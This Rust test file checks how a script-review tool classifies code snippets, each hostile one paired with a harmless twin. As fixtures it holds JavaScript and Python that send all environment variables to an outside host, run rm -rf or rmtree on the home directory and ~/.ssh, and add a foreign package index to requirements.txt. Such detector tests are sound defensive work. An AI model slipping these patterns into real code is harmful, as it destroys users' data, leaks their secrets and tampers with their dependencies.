//! Values the walkers follow into code that runs away from where it is written (issue 17):
//! a `Proxy` trap given its target, a helper called with argv lists of several lengths, lists
//! built by a `flatMap`/`map` callback, `operator.methodcaller` with bound arguments,
//! `weakref.finalize` callbacks and property setters. Each row has its harmless twin: the same
//! shape doing something harmless stays clean.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// `new Proxy(target, { get(t, key) { ... } })`: the trap runs with the proxied object as its
/// first parameter, so what it does with `t` is done to that object. A trap that only passes
/// the member through (`return t[key]`) makes `proxy.HOME` the target's `HOME`, not all of it.
#[test]
fn a_proxy_trap_is_given_its_target() {
    let ship = "const https = require('https');\nfunction ship(data) {\n  const req = https.request({ host: 'stats.example.net', path: '/in', method: 'POST' });\n  req.end(JSON.stringify(data));\n}\n";
    let proxy = |prelude: &str, trap_body: &str| {
        format!(
            "{prelude}const seen = new Set();\nconst watched = new Proxy(process.env, {{\n  get(target, key) {{\n    {trap_body}\n    return target[key];\n  }},\n}});\nconsole.log(watched.HOME, seen.size);\n"
        )
    };
    rows(&[
        // The trap sends every variable of the environment it wraps.
        (
            Js,
            proxy(
                ship,
                "setImmediate(() => ship(Object.fromEntries(Object.entries(target))));",
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            proxy(ship, "if (seen.size === 0) ship(Object.entries(target));"),
            Dangerous,
            "exfiltration",
        ),
        // Twins: the trap only notes the name read (`watched.HOME` is one variable), or
        // sends how many were read.
        (Js, proxy("", "seen.add(String(key));"), Clean, ""),
        (
            Js,
            proxy(ship, "setImmediate(() => ship({ read: seen.size }));"),
            Suspicious,
            "network",
        ),
    ]);
}

/// A helper running one program with the argv list each call gives it: lists of another
/// length than the first call's are commands of their own, judged each (the union of two lists
/// kept only the first).
#[test]
fn a_helper_called_with_argv_lists_of_several_lengths() {
    let helper = |second: &str| {
        format!(
            "import {{ spawnSync }} from 'node:child_process';\nimport os from 'node:os';\nimport path from 'node:path';\nfunction rm(args: string[]): number {{\n  return spawnSync('rm', args, {{ stdio: 'inherit' }}).status ?? 1;\n}}\nfunction main(): void {{\n  rm(['-f', 'build/stamp']);\n  rm({second});\n}}\nmain();\n"
        )
    };
    rows(&[
        (
            Ts,
            helper("['-rf', '--', os.homedir()]"),
            Dangerous,
            "destructive",
        ),
        (
            Ts,
            helper("['-rf', '--', path.join(os.homedir(), '.ssh')]"),
            Dangerous,
            "destructive",
        ),
        // Twin: the second command deletes the project's own build output.
        (Ts, helper("['-rf', '--', 'build/cache']"), Clean, ""),
    ]);
}

/// `list.flatMap(x => [[...]])` holds the inner lists, `list.map(x => [...])` the lists: a loop
/// over either gives each argv to the helper that runs it.
#[test]
fn argv_lists_built_by_a_map_callback() {
    let plan = |method: &str, ret: &str| {
        format!(
            "const {{ spawnSync }} = require('child_process');\nconst os = require('os');\nconst path = require('path');\nconst ROOT = path.resolve(__dirname, '..');\nfunction plan(dirs) {{\n  return dirs.{method}((d) => {ret});\n}}\nfor (const args of plan(['cache', 'logs'])) {{\n  spawnSync('rm', args, {{ stdio: 'inherit' }});\n}}\n"
        )
    };
    rows(&[
        (
            Js,
            plan("flatMap", "[['-rf', path.join(os.homedir(), d)]]"),
            Dangerous,
            "destructive",
        ),
        (
            Js,
            plan("map", "['-rf', path.join(os.homedir(), d)]"),
            Dangerous,
            "destructive",
        ),
        // Twins: the same lists under the project's own directory.
        (
            Js,
            plan("flatMap", "[['-rf', path.join(ROOT, 'tmp', d)]]"),
            Clean,
            "",
        ),
        (
            Js,
            plan("map", "['-rf', path.join(ROOT, 'tmp', d)]"),
            Clean,
            "",
        ),
    ]);
}

/// `operator.methodcaller("insert", i, line)` calls `obj.insert(i, line)` on the object it is
/// given: the bound arguments follow the object, also for callers kept in a list built by a
/// comprehension.
#[test]
fn a_methodcaller_with_bound_arguments() {
    let pin = |extra: &str, apply: &str| {
        format!(
            "import operator\nfrom pathlib import Path\n\nREQ = Path('requirements.txt')\nEXTRA = [{extra}]\n\n\ndef ops():\n    return [operator.methodcaller('insert', i, line) for i, line in enumerate(EXTRA)]\n\n\ndef main():\n    lines = ['requests==2.32.0', 'numpy==2.1.0']\n{apply}\n    REQ.write_text('\\n'.join(lines) + '\\n')\n\n\nmain()\n"
        )
    };
    let foreign =
        "'--extra-index-url https://pkgs.example.net/simple', '--trusted-host pkgs.example.net'";
    let comments = "'# pinned by tools/pin.py', '# do not edit by hand'";
    let loop_ = "    for op in ops():\n        op(lines)";
    let one = "    op = operator.methodcaller('insert', 0, EXTRA[0])\n    op(lines)";
    rows(&[
        (Py, pin(foreign, loop_), Dangerous, "config-tampering"),
        (Py, pin(foreign, one), Dangerous, "config-tampering"),
        // Twins: the lines inserted are comments.
        (Py, pin(comments, loop_), Clean, ""),
        (Py, pin(comments, one), Clean, ""),
    ]);
}

/// `weakref.finalize(obj, f, *args)` (also imported by name) calls `f(*args)` when the object
/// goes (at the latest at exit), as `atexit.register(f, *args)` does.
#[test]
fn a_weakref_finalizer_runs_its_callback_with_its_arguments() {
    let session = |import: &str, call: &str, dir: &str| {
        format!(
            "import shutil\nimport tempfile\n{import}\nfrom pathlib import Path\n\n\ndef _wipe(folder):\n    shutil.rmtree(folder, ignore_errors=True)\n\n\nclass Session:\n    def __init__(self):\n        self.dir = {dir}\n        self._fin = {call}(self, _wipe, self.dir)\n\n\ns = Session()\nprint(s.dir)\n"
        )
    };
    rows(&[
        (
            Py,
            session("import weakref", "weakref.finalize", "Path.home()"),
            Dangerous,
            "destructive",
        ),
        (
            Py,
            session("from weakref import finalize", "finalize", "Path.home()"),
            Dangerous,
            "destructive",
        ),
        // Twins: the folder is the session's own temporary directory.
        (
            Py,
            session("import weakref", "weakref.finalize", "tempfile.mkdtemp()"),
            Clean,
            "",
        ),
        (
            Py,
            session(
                "from weakref import finalize",
                "finalize",
                "tempfile.mkdtemp()",
            ),
            Clean,
            "",
        ),
    ]);
}

/// `obj.base = value` of a class with `@base.setter` runs the setter with the value: what it
/// does with it (and with what it stored from it) is done.
#[test]
fn a_property_setter_runs_on_assignment() {
    let area = |body: &str, value: &str| {
        format!(
            "import shutil\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parent\n\n\nclass Area:\n    def __init__(self):\n        self._base = None\n\n    @property\n    def base(self):\n        return self._base\n\n    @base.setter\n    def base(self, value):\n{body}\n\n\narea = Area()\narea.base = {value}\nprint(area.base)\n"
        )
    };
    let wipe = "        shutil.rmtree(value, ignore_errors=True)";
    let store =
        "        self._base = Path(value)\n        shutil.rmtree(self._base, ignore_errors=True)";
    rows(&[
        (Py, area(wipe, "Path.home()"), Dangerous, "destructive"),
        (
            Py,
            area(store, "Path.home() / '.ssh'"),
            Dangerous,
            "destructive",
        ),
        // Twin: the base is the project's own scratch directory. (The same twin of the `store`
        // form stays suspicious: `self._base` also holds the `None` of `__init__`.)
        (Py, area(wipe, "ROOT / 'build' / 'tmp'"), Clean, ""),
    ]);
}
